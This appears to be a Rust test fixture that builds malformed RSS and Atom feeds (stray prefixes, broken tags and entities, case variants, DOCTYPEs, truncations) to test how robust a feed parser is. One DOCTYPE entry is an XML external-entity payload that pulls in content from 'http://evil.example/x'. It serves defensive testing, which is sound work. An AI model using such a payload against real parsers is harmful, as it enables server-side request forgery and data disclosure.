//! Each breakage at each place where it is met.

use super::{Wild, numbered};

pub(super) fn documents() -> Vec<Wild> {
    let mut all = numbered("break-before", before());
    all.extend(numbered("break-inside", inside()));
    all.extend(numbered("break-case", CASES.map(str::to_owned)));
    all.extend(numbered("break-doctype", doctypes()));
    all.extend(numbered("break-cut", cuts()));
    all.extend(numbered("break-more", MORE.map(str::to_owned)));
    all
}

const RSS: &str = "<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>T</title><link>http://a.example/</link><description>D</description>\
    <item><title>One</title><link>http://a.example/1</link><description>&lt;p&gt;First&lt;/p&gt;</description><guid>http://a.example/1</guid></item>\
    <item><title>Two</title><link>http://a.example/2</link><description>Second</description><guid>http://a.example/2</guid></item></channel></rss>";

const ATOM: &str = "<?xml version='1.0' encoding='utf-8'?><feed xmlns='http://www.w3.org/2005/Atom'><title>T</title><link href='http://a.example/'/>\
    <entry><title>One</title><id>urn:1</id><link href='http://a.example/1'/><content type='html'>&lt;p&gt;First&lt;/p&gt;</content></entry>\
    <entry><title>Two</title><id>urn:2</id><link href='http://a.example/2'/><summary>Second</summary></entry></feed>";

fn before() -> Vec<String> {
    let junk = [
        "",
        "\n",
        "\r\n\r\n",
        "\u{feff}",
        "\u{feff}\u{feff}",
        " ",
        "\t \n",
        "x",
        "<!-- c -->",
        "<!-- <rss> -->\n",
        "\0",
        "Notice: Undefined variable: x in /srv/a.php on line 5\n",
        "<br />\n<b>Warning</b>: include(x): failed to open stream in <b>/srv/a.php</b> on line <b>5</b><br />\n",
        "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n",
        "<?php echo 1; ?>\n",
        "<?xml-stylesheet href='a.xsl' type='text/xsl'?>\n",
        "<!-- a -- b -->\n",
        "&nbsp;",
        "<!---->",
    ];
    junk.iter().flat_map(|junk| [format!("{junk}{RSS}"), format!("{junk}{ATOM}")]).collect()
}

/// One piece of the document replaced.
fn inside() -> Vec<String> {
    let rss = [
        ("Second", "a & b"),
        ("Second", "AT&T and R&D; x"),
        ("Second", "caf&eacute; &mdash; &hellip; &nbsp;x &euro;5"),
        ("Second", "&unknown; &amp &copy 2004"),
        ("Second", "a < b and c > d"),
        ("Second", "a <3 b"),
        ("Second", "&lt;b>half&lt;/b>"),
        ("Second", "<b>bold</b> and <i>more"),
        ("Second", "<p>One<p>Two"),
        ("Second", "<br>line<hr>line<img src=http://a.example/i.png>"),
        ("Second", "<b><i>crossed</b></i>"),
        ("Second", "</b>never opened"),
        ("Second", "<![CDATA[one]]> & <![CDATA[two]]>"),
        ("Second", "<![CDATA[a ]] > b]]>"),
        ("Second", "]]> loose"),
        ("Second", "&#x80;&#147;quoted&#148;&#133;"),
        ("Second", "&#xFFFF;&#1;&#xD800;x"),
        ("Second", "a\u{1}b\u{8}c\u{b}d"),
        ("Second", "a\u{0}b"),
        ("Second", "&#99999999;x"),
        ("Second", "&#;&#x;&;x"),
        ("Second", "<a href=\"http://b.example/?a=1&b=2\">x</a>"),
        ("Second", "<a title='it's'>x</a>"),
        ("Second", "<a b>x</a>"),
        ("Second", "<!-- never ends"),
        ("Second", "<!-- c --- d -->after"),
        ("Second", "<? never ends"),
        ("Second", "<!ENTITY x 'y'>after"),
        ("<title>Two</title>", "<title>Two"),
        ("<title>Two</title>", "<title>Two</titel>"),
        ("<title>Two</title>", "<Title>Two</title>"),
        ("<title>Two</title>", "<title>Two</title></title>"),
        ("<title>Two</title>", "<title><title>Two</title></title>"),
        ("<title>Two</title>", "<title>Tw<o</title>"),
        ("<title>Two</title>", "< title>Two</title>"),
        ("<title>Two</title>", "<title >Two</title >"),
        ("<title>Two</title>", "<title\n>Two</title\n>"),
        ("<title>Two</title>", "<title foo>Two</title>"),
        ("<title>Two</title>", "<title a='1' a='2'>Two</title>"),
        ("<title>Two</title>", "<title a=1>Two</title>"),
        ("<title>Two</title>", "<title a='x>Two</title>"),
        ("<title>Two</title>", "<dc:title>Two</dc:title>"),
        ("<title>Two</title>", "<foo:bar>x</foo:bar><title>Two</title>"),
        ("<title>Two</title>", "<título>x</título><title>Two</title>"),
        ("<title>Two</title>", "<1bad>x</1bad><title>Two</title>"),
        ("<title>Two</title>", "<></><title>Two</title>"),
        ("</item></channel></rss>", "</channel></rss>"),
        ("</item></channel></rss>", "</item></rss>"),
        ("</item></channel></rss>", "</item>"),
        ("</item></channel></rss>", "</item></channel></rss>trailing"),
        ("</item></channel></rss>", "</item></channel></rss><!-- made in 5 ms -->"),
        ("</item></channel></rss>", "</item></channel></rss>\0\0"),
        ("</item></channel></rss>", "</item></channel></rss><html><body><p>x</p></body></html>"),
        (
            "</item></channel></rss>",
            "</item></channel></rss><rss version='2.0'><channel><item><title>Three</title></item></channel></rss>",
        ),
        ("</item></channel></rss>", "</item></channel><item><title>Three</title></item></rss>"),
        (
            "</item></channel></rss>",
            "</item></channel><channel><title>Again</title><item><title>Three</title></item></channel></rss>",
        ),
        ("</item><item>", "<item>"),
        ("</item>    <item>", "<item>"),
        ("<channel>", ""),
        ("<item>", "<ITEM>"),
        ("<item>", "<item xmlns='http://x.example/'>"),
        ("<rss version='2.0'>", "<rss version=2.0>"),
        ("<rss version='2.0'>", "<rss version='2.0' xmlns:dc=http://purl.org/dc/elements/1.1/>"),
        ("<rss version='2.0'>", "<rss version=\"2.0'>"),
        ("<rss version='2.0'>", "<rss version='2.0' version='2.0'>"),
        ("<link>http://a.example/2</link>", "<link>http://a.example/?a=1&b=2</link>"),
        ("<link>http://a.example/2</link>", "<link>http://a.example/2<link>"),
        ("<link>http://a.example/2</link>", "<link>http://a.example/2"),
        ("<link>http://a.example/2</link>", "<link />http://a.example/2"),
        ("<guid>http://a.example/2</guid>", "<guid>http://a.example/2</item>"),
        ("<guid>http://a.example/2</guid>", "<guid isPermaLink=false>x</guid>"),
        (
            "<guid>http://a.example/2</guid>",
            "<enclosure url='http://a.example/a.mp3' length='1' type='audio/mpeg'>",
        ),
        ("<guid>http://a.example/2</guid>", "<enclosure url='http://a.example/?a=1&b=2'/>"),
        (
            "<guid>http://a.example/2</guid>",
            "<media:content url='http://a.example/a.jpg'><dc:creator>Me</dc:creator>",
        ),
    ];
    let atom = [
        ("Second", "a & b"),
        ("Second", "caf&eacute; &mdash; x"),
        ("Second", "a < b"),
        ("Second", "<b>bold</b>"),
        ("Second", "\u{8}x\u{1f}"),
        ("<summary>Second</summary>", "<summary>Second"),
        ("<summary>Second</summary>", "<summary type=html>Second</summary>"),
        ("<summary>Second</summary>", "<summary type='xhtml'>Second <b>x</summary>"),
        ("<summary>Second</summary>", "<summary type='xhtml'><div>Second <br>x</div></summary>"),
        ("<summary>Second</summary>", "<summary type='xhtml'><div>a & b</div></summary>"),
        ("<summary>Second</summary>", "<summary type='xhtml'><div>&nbsp;x &eacute;</div></summary>"),
        ("<summary>Second</summary>", "<content type='html'><p>Second</p></content>"),
        ("<summary>Second</summary>", "<content type='html'><![CDATA[<p>Second</p>"),
        ("<summary>Second</summary>", "<content type='xhtml'><p>No <b>div</b></p></content>"),
        ("<summary>Second</summary>", "<content type='nonsense'>Second</content>"),
        ("<summary>Second</summary>", "<content type=''>Second</content>"),
        ("<link href='http://a.example/2'/>", "<link href='http://a.example/?a=1&b=2'/>"),
        ("<link href='http://a.example/2'/>", "<link href='http://a.example/2'>"),
        ("<link href='http://a.example/2'/>", "<link href=http://a.example/2 />"),
        ("<link href='http://a.example/2'/>", "<link href='http://a.example/2></link>"),
        ("</entry></feed>", "</feed>"),
        ("</entry></feed>", "</entry>"),
        ("</entry></feed>", ""),
        ("</entry></feed>", "</entry></feed></feed>"),
        ("<entry>", "<Entry>"),
        ("<feed xmlns='http://www.w3.org/2005/Atom'>", "<feed>"),
        ("<feed xmlns='http://www.w3.org/2005/Atom'>", "<feed xmlns='http://www.w3.org/2005/atom'>"),
        ("<feed xmlns='http://www.w3.org/2005/Atom'>", "<feed xmlns='https://www.w3.org/2005/Atom/'>"),
        ("<feed xmlns='http://www.w3.org/2005/Atom'>", "<feed xmlns=http://www.w3.org/2005/Atom>"),
        ("<feed xmlns='http://www.w3.org/2005/Atom'>", "<FEED xmlns='http://www.w3.org/2005/Atom'>"),
    ];
    let mut all: Vec<String> = rss.iter().map(|(old, new)| RSS.replace(old, new)).collect();
    all.extend(atom.iter().map(|(old, new)| ATOM.replace(old, new)));
    all
}

const CASES: [&str; 10] = [
    "<RSS VERSION='2.0'><CHANNEL><TITLE>T</TITLE><ITEM><TITLE>E</TITLE><GUID ISPERMALINK='false'>g</GUID><PUBDATE>Thu, 01 Jan 2004 19:48:21 GMT</PUBDATE></ITEM></CHANNEL></RSS>",
    "<Rss version='2.0'><Channel><Title>T</Title><Item><Title>E</Title><Link>http://a.example/1</Link></Item></Channel></Rss>",
    "<rss version='2.0'><channel><title>T</title><item><TITLE>E</TITLE><Description>D</Description></item></channel></rss>",
    "<rss version='2.0'><channel><title>T</title><item><pubdate>Thu, 01 Jan 2004 19:48:21 GMT</pubdate><title>E</title></item></channel></rss>",
    "<rss version='2.0'><channel><lastbuilddate>Thu, 01 Jan 2004 19:48:21 GMT</lastbuilddate><title>T</title></channel></rss>",
    "<FEED XMLNS='http://www.w3.org/2005/Atom'><TITLE>T</TITLE><ENTRY><TITLE>E</TITLE><LINK HREF='http://a.example/1'/></ENTRY></FEED>",
    "<feed xmlns='http://www.w3.org/2005/Atom'><Title>T</Title><Entry><Title>E</Title></Entry></feed>",
    "<RDF:RDF xmlns:RDF='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'><CHANNEL><TITLE>T</TITLE></CHANNEL><ITEM><TITLE>E</TITLE></ITEM></RDF:RDF>",
    "<rss version='2.0' xmlns:DC='http://purl.org/dc/elements/1.1/'><channel><title>T</title><item><DC:Creator>Me</DC:Creator><title>E</title></item></channel></rss>",
    "<rss version='2.0'><channel><title>T</title><item><title>E</Title><link>http://a.example/1</LINK></item></channel></rss>",
];

fn doctypes() -> Vec<String> {
    [
        "<!DOCTYPE rss>",
        "<!DOCTYPE rss SYSTEM 'rss.dtd'>",
        "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">",
        "<!DOCTYPE rss [ <!ENTITY copy '&#169;'> ]>",
        "<!DOCTYPE rss [<!ENTITY name \"Value\"><!ENTITY other 'x > y'>]>",
        "<!DOCTYPE rss [\n<!ENTITY % x SYSTEM 'http://evil.example/x'>\n%x;\n]>",
        "<!DOCTYPE rss [<!ELEMENT rss ANY><!ATTLIST rss version CDATA #IMPLIED>]>",
        "<!DOCTYPE rss [<!ENTITY name 'Value'>",
        "<!doctype rss>",
    ]
    .iter()
    .flat_map(|doctype| {
        [
            RSS.replace("<rss", &format!("{doctype}<rss")),
            RSS.replace("<rss", &format!("{doctype}\n<rss")).replace("Second", "&name; &copy; x"),
        ]
    })
    .collect()
}

/// Cut behind each tag of the last entry.
fn cuts() -> Vec<String> {
    let cut_at = |text: &str, begin: &str| -> Vec<String> {
        let last = text.rfind(begin).unwrap();
        let ends: Vec<usize> = text[last..].match_indices('>').map(|(at, _)| last + at + 1).collect();
        ends.iter().map(|end| text[..*end].to_owned()).collect()
    };
    let mut all = cut_at(RSS, "<item>");
    all.extend(cut_at(ATOM, "<entry>"));
    all
}

const MORE: [&str; 12] = [
    "<rss version='2.0'><channel><title>T</title><item><title>E</title><description>D</description></item></channel></rss",
    "<rss version='2.0'><channel><title>T</title><item><title>E</title></item></channel></rss></rss></rss>",
    "<?xml version='1.0'?><?xml version='1.0'?><rss version='2.0'><channel><title>T</title><item><title>E</title></item></channel></rss>",
    "<?xml version='1.0' encoding='utf-8' standalone='yes'?><rss version='2.0'><channel><title>T</title></channel></rss>",
    "<?xml version=\"1.1\"?><rss version='2.0'><channel><title>T</title><item><title>E&#x1;</title></item></channel></rss>",
    "<?xml encoding='utf-8'?><rss version='2.0'><channel><title>T</title></channel></rss>",
    "<?xml version='1.0' ?\n><rss version='2.0'><channel><title>T</title></channel></rss>",
    "<rss version='2.0'><channel><title>T</title><textInput/><image/><link>http://a.example/</link><item><title>E</title></item></channel></rss>",
    "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'><channel><title>T</title><textinput/><link>http://a.example/</link></channel><item><title>E</title></item></rdf:RDF>",
    "<rss version='2.0'><channel><title>T</title><item><title>E</title><description>&lt;a href='x'&gt;y</description></item></channel></rss>",
    "<rss version='2.0'><channel><title>T</title><item><title>E</title><body><p>x</p></body></item></channel></rss>",
    "<rss version='2.0'><channel><title>T</title><item><title>E</title><content><p>x</p></content></item></channel></rss>",
];
